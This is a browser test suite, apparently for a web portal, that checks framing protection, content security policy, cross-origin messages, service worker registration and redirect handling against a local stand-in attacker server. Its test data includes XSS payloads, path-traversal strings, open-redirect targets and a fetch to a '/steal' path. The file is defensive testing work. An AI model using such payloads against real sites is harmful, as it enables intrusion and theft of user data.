// Attacks on the public pages: framing, injected code, a foreign worker, messages from other origins,
// and addresses that should redirect away. Cases PW5 to PW7, PW9 and PW10.
import { createServer, type Server } from 'node:http';
import { resolve } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type BrowserProfile, openBrowser, openContext } from '#tests/kit/open-browser.ts';
import { aUser, type Person } from '#tests/kit/people.ts';
import { publicPaths } from '#tests/kit/public-paths.ts';
import { settled } from '#tests/kit/settled.ts';
import { startTestApp, type TestApp } from '#tests/kit/test-app.ts';

let app: TestApp;
let profile: BrowserProfile;
let person: Person;
let evil: Server;
let evilUrl = '';
const visits: string[] = [];

beforeAll(async () => {
  app = await startTestApp({
    portalFolder: resolve(import.meta.dirname, '..', '..', 'dist', 'portal'),
  });
  person = await aUser(app);
  profile = await openContext({ workers: false });
  evil = createServer((request, response) => {
    visits.push(request.url ?? '');
    response.setHeader('content-type', 'text/html');
    response.end(`<h1>Elsewhere</h1><iframe src="${app.url}/login"></iframe>`);
  });
  await new Promise<void>((done) => evil.listen(0, '127.0.0.1', done));
  const address = evil.address();
  if (address === null || typeof address === 'string') throw new Error('no port was given');
  evilUrl = `http://127.0.0.1:${address.port}`;
});

afterAll(async () => {
  await profile.close();
  await app.close();
  evil.closeAllConnections();
  await new Promise((done) => evil.close(done));
});

test('PW6: another site cannot embed the portal in a frame', async () => {
  const page = await profile.context.newPage();
  const refused = page.waitForEvent('console', (line) => line.text().includes('frame-ancestors'));
  await page.goto(evilUrl);
  await refused;
  expect(await page.frameLocator('iframe').getByLabel('Password').count()).toBe(0);
  visits.length = 0;
  await page.close();
});

describe('PW7: the content security policy of the page', () => {
  test('never blocks the portal itself', async () => {
    const page = await profile.context.newPage();
    const breaches: string[] = [];
    page.on('console', (line) => {
      if (/Content.Security.Policy/i.test(line.text())) breaches.push(line.text());
    });
    for (const path of publicPaths) {
      await settled(page, () => page.goto(app.url + path));
      await page.mouse.move(8, 8);
    }
    expect(breaches).toEqual([]);
    await page.close();
  });

  test.each([
    ['an inline script', 'script-src-elem', (make) => make('script', { text: 'window.ran = 1' })],
    [
      'a script from another origin',
      'script-src-elem',
      (make, away) => make('script', { src: `${away}/x.js` }),
    ],
    [
      'a script in a data: URL',
      'script-src-elem',
      (make) => make('script', { src: 'data:text/javascript,window.ran=1' }),
    ],
    [
      'an inline event handler',
      'script-src-attr',
      (make) => make('img', { src: '/none.png', onerror: 'window.ran = 1' }),
    ],
    ['a base element', 'base-uri', (make, away) => make('base', { href: `${away}/` })],
    [
      'a frame from another origin',
      'frame-src',
      (make, away) => make('iframe', { src: `${away}/` }),
    ],
    [
      'a picture from another origin',
      'img-src',
      (make, away) => make('img', { src: `${away}/i.gif` }),
    ],
    ['an object', 'object-src', (make, away) => make('object', { data: `${away}/x.swf` })],
  ] satisfies [string, string, (make: Make, away: string) => Promise<string>][])(
    'blocks %s',
    async (_, directive, attack) => {
      const page = await openPage('/pricing');
      const make: Make = (tag, attributes) => page.evaluate(insert, { tag, attributes });
      expect(await attack(make, evilUrl)).toBe(directive);
      await hasDoneNothing(page);
    },
  );

  test('blocks a form to another origin', async () => {
    const page = await openPage('/pricing');
    const stopped = await page.evaluate(async (away) => {
      const form = document.createElement('form');
      form.action = `${away}/`;
      document.body.append(form);
      const breach = Promise.withResolvers<string>();
      document.addEventListener('securitypolicyviolation', (event) =>
        breach.resolve(event.effectiveDirective),
      );
      form.submit();
      return breach.promise;
    }, evilUrl);
    expect(stopped).toBe('form-action');
    await hasDoneNothing(page);
  });

  test('blocks eval and requests to other origins', async () => {
    const page = await openPage('/pricing');
    const tried = await page.evaluate(async (away) => {
      const outcome = async (run: () => unknown) => {
        try {
          await run();
          return 'done';
        } catch {
          return 'stopped';
        }
      };
      // In a task of the page: code evaluated by the test itself is exempt from the policy.
      const evaluated = Promise.withResolvers<string>();
      setTimeout(async () => evaluated.resolve(await outcome(() => Function('window.ran = 1')())));
      return [await evaluated.promise, await outcome(() => fetch(`${away}/steal`))];
    }, evilUrl);
    expect(tried).toEqual(['stopped', 'stopped']);
    await hasDoneNothing(page);
  });
});

test('PW9: messages from other origins change nothing', async () => {
  const page = await openPage('/contact');
  await page.getByLabel('Message').fill('mine');
  await page.evaluate(async () => {
    for (const data of [{ type: 'SKIP_WAITING' }, { type: 'logout' }, '<script>', null]) {
      dispatchEvent(new MessageEvent('message', { data, origin: 'http://evil.example' }));
    }
    await new Promise(requestAnimationFrame);
  });
  expect(await page.getByLabel('Message').inputValue()).toBe('mine');
  await hasDoneNothing(page);
});

test('PW5: the worker script is always revalidated, and nothing else can be registered as one', async () => {
  const worker = await app.call('GET', '/sw.js');
  expect(worker.headers.get('cache-control')).toContain('no-cache');
  expect(worker.headers.get('service-worker-allowed')).toBeNull();
  const installing = await openBrowser();
  const page = await installing.context.newPage();
  await settled(page, () => page.goto(`${app.url}/pricing`));
  const register = (path: string) =>
    page.evaluate(
      (address) =>
        navigator.serviceWorker.register(address, { scope: '/' }).then(
          () => 'taken',
          () => 'refused',
        ),
      path,
    );
  for (const path of ['/api/documentation/v1/data-to-pdf', '/core/sw.js', '/robots.txt']) {
    expect(await register(path)).toBe('refused');
  }
  await installing.close();
});

describe('PW10: an address that should redirect away', () => {
  test.each([
    '/billing/..%2f..%2fpackage.json',
    '/services/javascript:alert(1)',
    '/services/%3Cimg%20src=x%20onerror=alert(1)%3E',
    '/showcase/%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '/forgot-password/%00',
    '/forgot-password/%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '/%E0%A4%A',
    '//evil.example/..',
  ])('%s shows a page of ours or a refusal', async (path) => {
    const page = await profile.context.newPage();
    let dialogs = 0;
    page.on('dialog', (dialog) => {
      dialogs += 1;
      void dialog.dismiss();
    });
    const answer = await settled(page, () => page.goto(app.url + path));
    expect(answer?.status()).toBeLessThan(500);
    expect(new URL(page.url()).origin).toBe(app.url);
    expect(await page.content()).not.toMatch(/at .+\.(ts|js):\d+|"dependencies"/);
    expect(await page.locator('script:not([src])', { hasText: 'alert(1)' }).count()).toBe(0);
    expect(dialogs).toBe(0);
    await page.close();
  });

  test.each(['//evil.example', '/\\evil.example', 'https://evil.example', 'javascript:alert(1)'])(
    'logging in with next=%s ends on our first page',
    async (next) => {
      const page = await openPage(`/login?next=${encodeURIComponent(next)}`);
      await page.getByLabel('Email', { exact: true }).fill(person.email);
      await page.getByLabel('Password', { exact: true }).fill(person.password);
      await page.getByRole('button', { name: 'LOGIN' }).click();
      await page.getByRole('button', { name: person.name }).waitFor();
      await page.waitForURL(`${app.url}/`);
      await profile.context.clearCookies();
      await page.close();
    },
  );
});

type Make = (tag: string, attributes: Record<string, string>) => Promise<string>;

async function openPage(path: string): Promise<Page> {
  const page = await profile.context.newPage();
  await settled(page, () => page.goto(app.url + path));
  return page;
}

/** Inserts an element into the page; returns the directive that blocked it. */
function insert({ tag, attributes }: { tag: string; attributes: Record<string, string> }) {
  const breach = Promise.withResolvers<string>();
  document.addEventListener('securitypolicyviolation', (event) =>
    breach.resolve(event.effectiveDirective),
  );
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) {
    if (name === 'text') element.textContent = value;
    else element.setAttribute(name, value);
  }
  (tag === 'base' ? document.head : document.body).append(element);
  return breach.promise;
}

async function hasDoneNothing(page: Page): Promise<void> {
  expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
  expect(new URL(page.url()).origin).toBe(app.url);
  expect(visits).toEqual([]);
  await page.close();
}
